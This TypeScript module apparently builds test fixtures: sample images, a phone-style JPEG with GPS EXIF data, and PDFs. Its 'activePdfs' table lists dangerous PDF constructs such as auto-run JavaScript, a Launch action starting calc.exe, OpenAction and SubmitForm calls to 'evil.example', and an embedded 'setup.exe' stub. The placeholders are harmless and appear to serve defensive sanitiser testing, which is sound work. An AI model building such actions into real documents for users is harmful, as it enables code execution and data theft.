import { PDFDocument, PDFHexString, PDFName, PDFString } from '@cantoo/pdf-lib';
import sharp from 'sharp';

type Kind = 'gif' | 'jpeg' | 'png';

/** A small picture whose left half is red and whose right half is blue. */
export async function samplePicture(kind: Kind, width = 40, height = 20): Promise<Buffer> {
  const red = await sharp({
    create: { width: Math.floor(width / 2), height, channels: 3, background: '#d00000' },
  })
    .png()
    .toBuffer();
  return await sharp({ create: { width, height, channels: 3, background: '#0000d0' } })
    .composite([{ input: red, left: 0, top: 0 }])
    .toFormat(kind)
    .toBuffer();
}

/** A photograph as phones make them: it lies on its side, says so, and tells where it was taken. */
export async function samplePhotograph(): Promise<Buffer> {
  return await sharp(await samplePicture('png'))
    .jpeg()
    .withExif({ IFD0: { Copyright: 'canary-owner' }, IFD3: { GPSLatitude: '22/1 33/1 0/1' } })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

type Change = (document: PDFDocument) => void | Promise<void>;

/** A PDF of one page with whatever is put into it; `isPlain` keeps objects out of compressed streams. */
export async function samplePdf(change: Change = () => {}, { isPlain = false } = {}): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage([200, 200]).drawText('Bill of lading');
  await change(document);
  return Buffer.from(await document.save({ useObjectStreams: !isPlain, addDefaultPage: false }));
}

/** What the catalog of a PDF says to do when it is opened. */
export const onOpening =
  (action: Record<string, PDFName | PDFString>): Change =>
  (document) =>
    document.catalog.set(PDFName.of('OpenAction'), document.context.obj(action));

/** PDFs that act, carry or hide something, by what it is. */
export const activePdfs: Record<string, Change> = {
  'a script by name': (document) => document.addJavaScript('greet', 'app.alert(1)'),
  'a script on opening': onOpening({
    S: PDFName.of('JavaScript'),
    JS: PDFString.of('app.alert(1)'),
  }),
  'a script whose key alone shows it': (document) => {
    document.catalog.set(PDFName.of('Extra'), document.context.obj({ JS: PDFHexString.of('00') }));
  },
  'a program to start': onOpening({ S: PDFName.of('Launch'), F: PDFString.of('calc.exe') }),
  'a page of the web on opening': onOpening({
    S: PDFName.of('URI'),
    URI: PDFString.of('https://evil.example'),
  }),
  'a page of the web after a place to begin at': (document) => {
    const action = { S: 'GoTo', D: PDFString.of('one'), Next: { S: 'URI', URI: PDFString.of('https://e') } };
    document.catalog.set(PDFName.of('OpenAction'), document.context.obj(action));
  },
  'a form to send away': onOpening({ S: PDFName.of('SubmitForm'), F: PDFString.of('https://evil.example') }),
  'another document to go to': onOpening({ S: PDFName.of('GoToR'), F: PDFString.of('other.pdf') }),
  'an action of a page': (document) => {
    document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({}));
  },
  'a file within': async (document) => await document.attach(Buffer.from('MZ'), 'setup.exe', {}),
  'an XFA form': (document) => {
    document.catalog.set(PDFName.of('AcroForm'), document.context.obj({ XFA: [] }));
  },
  'rich media': (document) => {
    const annotation = document.context.register(document.context.obj({ Subtype: 'RichMedia' }));
    document.getPage(0).node.addAnnot(annotation);
  },
  'a film': (document) => {
    document.getPage(0).node.addAnnot(document.context.register(document.context.obj({ Subtype: 'Movie' })));
  },
};
